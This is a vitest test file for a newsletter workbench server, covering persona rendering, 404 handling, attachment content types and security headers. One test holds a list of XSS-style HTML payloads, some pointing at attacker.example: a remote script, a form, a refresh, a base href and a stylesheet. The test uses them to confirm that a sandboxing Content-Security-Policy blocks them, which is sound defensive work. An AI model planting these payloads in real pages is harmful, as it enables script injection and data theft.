import { describe, expect, it } from 'vitest';
import { appearances } from '../../../src/model/workbench.js';
import { issue, read } from '../../fakes/workbench.js';
import { visit } from './visitor.js';

const folder = `/read/${issue.key}`;

/** The rules of an answer’s policy, by name. */
function rulesOf(policy = ''): ReadonlyMap<string, string> {
  return new Map(policy.split('; ').map((rule) => [rule.split(' ')[0] ?? '', rule.split(' ').slice(1).join(' ')]));
}

describe('an edition', () => {
  it('is read as it is, or as a persona reads it', async () => {
    const { ask } = await visit();
    const own = await ask('GET', `${folder}/wales.html`);
    expect([own.status, own.headers['content-type']]).toEqual([200, 'text/html; charset=utf-8']);
    expect(own.text).toContain('Dear {{first_name}}');
    expect((await ask('GET', `${folder}/wales.html?persona=megan`)).text).toContain('Dear Megan');
    expect((await ask('GET', `${folder}/wales.txt?persona=megan`)).text).toBe('Dear Megan\n');
  });

  it('has all that a persona reads of it in one answer', async () => {
    const { ask } = await visit();
    expect((await ask('GET', `${folder}/wales.json?persona=megan`)).json()).toEqual(read('Dear Megan'));
    expect((await ask('GET', `${folder}/scotland.json`)).status).toBe(404);
  });

  it('is looked at in every appearance, with pictures from the web only if somebody says so', async () => {
    const { ask } = await visit();
    for (const appearance of appearances)
      for (const images of ['local', 'remote'])
        expect(
          (await ask('GET', `${folder}/wales.html?persona=megan&appearance=${appearance}&images=${images}`)).text,
        ).toMatch(new RegExp(`^<!-- ${appearance} ${images} -->.*Dear Megan`));
    for (const query of ['', '?persona=&appearance=&images='])
      expect((await ask('GET', `${folder}/wales.html${query}`)).text).toMatch(/^<!-- light local -->/);
  });

  it('has its plain text and its source as text, as they are sent', async () => {
    const { ask, bench } = await visit();
    const html = '<p>Olives & “oil” – زيتون</p>\n';
    bench.editions.set(`${issue.key}/wales`, { ...read(''), html, text: 'Olives – زيتون\n' });
    for (const [name, said] of [
      ['wales.txt', 'Olives – زيتون\n'],
      ['wales.source', html],
    ]) {
      const answer = await ask('GET', `${folder}/${name}?appearance=dark`);
      expect(answer.headers['content-type']).toMatch(/^text\/plain; ?charset=utf-8$/i);
      expect(answer.text).toBe(said);
    }
  });

  it('is not there for a persona, an appearance or an edition that nobody knows', async () => {
    const { ask } = await visit();
    for (const name of [
      'scotland.html',
      'scotland.txt',
      'wales.htm',
      'wales',
      'wales.html?persona=nobody',
      'wales.txt?persona=nobody',
      'wales.html?appearance=sepia',
      'wales.html?images=all',
    ])
      expect((await ask('GET', `${folder}/${name}`)).status, name).toBe(404);
    expect((await ask('GET', '/read/weekly/2027-03-29/wales.html')).status).toBe(404);
    expect((await ask('GET', '/read/daily/2027-03-22/wales.html')).status).toBe(404);
  });

  it('may do nothing, whatever is in it', async () => {
    const { ask, bench } = await visit();
    const hostile = [
      '<script>fetch("/api/rebuild",{method:"POST"})</script>',
      '<script src="https://attacker.example/x.js"></script>',
      '<img src="x" onerror="alert(1)">',
      '<form action="https://attacker.example" method="post"><input name="a"><button>Go</button></form>',
      '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
      '<base href="https://attacker.example/">',
      '<iframe src="/"></iframe><object data="/ui/assets/page.js"></object>',
      '<link rel="stylesheet" href="https://attacker.example/x.css">',
    ].join('');
    bench.editions.set(`${issue.key}/wales`, read(hostile));
    for (const images of ['local', 'remote']) {
      const { headers } = await ask('GET', `${folder}/wales.html?images=${images}`);
      const rules = rulesOf(headers['content-security-policy']);
      // Neither scripts, forms, popups nor navigation of the top; a refresh needs scripts to be allowed.
      expect(rules.get('sandbox')).toBe('allow-same-origin');
      expect(rules.get('default-src')).toBe("'none'");
      expect(rules.get('base-uri')).toBe("'none'");
      expect(rules.get('form-action')).toBe("'none'");
      expect(rules.get('frame-ancestors')).toBe("'self'");
      expect(rules.get('style-src')).toBe("'unsafe-inline'");
      expect(rules.get('img-src')).toBe(images === 'remote' ? "'self' data: https:" : "'self' data:");
      expect(
        [...rules.keys()].filter((name) => /script|connect|frame-src|font|object|media|worker/.test(name)),
      ).toEqual([]);
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['referrer-policy']).toBe('no-referrer');
      expect(headers['cache-control']).toBe('no-store');
    }
    const source = await ask('GET', `${folder}/wales.source`);
    expect(source.headers['content-type']).toMatch(/^text\/plain/);
    expect(source.headers['x-content-type-options']).toBe('nosniff');
  });
});

describe('what stands beside an edition', () => {
  it.each([
    ['images/olives-1a2b3c4d.png', 'image/png', false],
    ['images/olives-1a2b3c4d.jpg', 'image/jpeg', false],
    ['images/olives.gif', 'image/gif', false],
    ['images/olives.svg', 'image/svg+xml', false],
    ['events/olive-day.ics', 'text/calendar; charset=utf-8', true],
    ['events/cy/olive-day.ics', 'text/calendar; charset=utf-8', true],
    ['copy.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', true],
    ['manifest.json', 'application/octet-stream', true],
    ['page.xhtml', 'application/octet-stream', true],
    ['script.js', 'application/octet-stream', true],
  ])('comes as what it is: %s', async (name, type, isKept) => {
    const { ask, bench } = await visit();
    bench.attached.set(`${issue.key}/${name}`, Buffer.from([0x89, 0x50, 0xff, 0x00]));
    const { status, headers } = await ask('GET', `${folder}/${name}`);
    expect([status, headers['content-type'], headers['content-length']]).toEqual([200, type, '4']);
    expect(headers['content-disposition']).toBe(isKept ? 'attachment' : undefined);
    const rules = rulesOf(headers['content-security-policy']);
    expect([rules.get('sandbox'), rules.get('default-src')]).toEqual(['', "'none'"]);
  });

  it('comes byte for byte', async () => {
    const { bench, port, cookie } = await visit();
    const bytes = Uint8Array.from({ length: 256 }, (_, byte) => byte);
    bench.attached.set(`${issue.key}/images/olives.png`, bytes);
    const answer = await fetch(`http://127.0.0.1:${port}${folder}/images/olives.png`, { headers: { cookie } });
    expect(new Uint8Array(await answer.arrayBuffer())).toEqual(bytes);
  });

  it('is never shown as a page, whatever it is called', async () => {
    const { ask, bench } = await visit();
    bench.attached.set(`${issue.key}/images/page.html`, Buffer.from('<script>alert(1)</script>'));
    bench.attached.set(`${issue.key}/scotland.html`, Buffer.from('<script>alert(1)</script>'));
    expect((await ask('GET', `${folder}/scotland.html`)).status).toBe(404);
    expect((await ask('GET', `${folder}/images/page.html`)).headers['content-type']).toBe('application/octet-stream');
  });

  it('belongs to its own issue only', async () => {
    const { ask, bench } = await visit();
    bench.attached.set('weekly/2027-03-29/images/olives.png', Buffer.from('a picture'));
    expect((await ask('GET', `${folder}/images/olives.png`)).status).toBe(404);
    expect((await ask('GET', '/read/weekly/2027-03-29/images/olives.png')).status).toBe(404);
  });
});

it('the page is told everything there is to show', async () => {
  const { ask, bench } = await visit();
  const answer = await ask('GET', '/api/state');
  expect(answer.headers['content-type']).toBe('application/json');
  expect(answer.json()).toEqual(JSON.parse(JSON.stringify(bench.shown)));
});
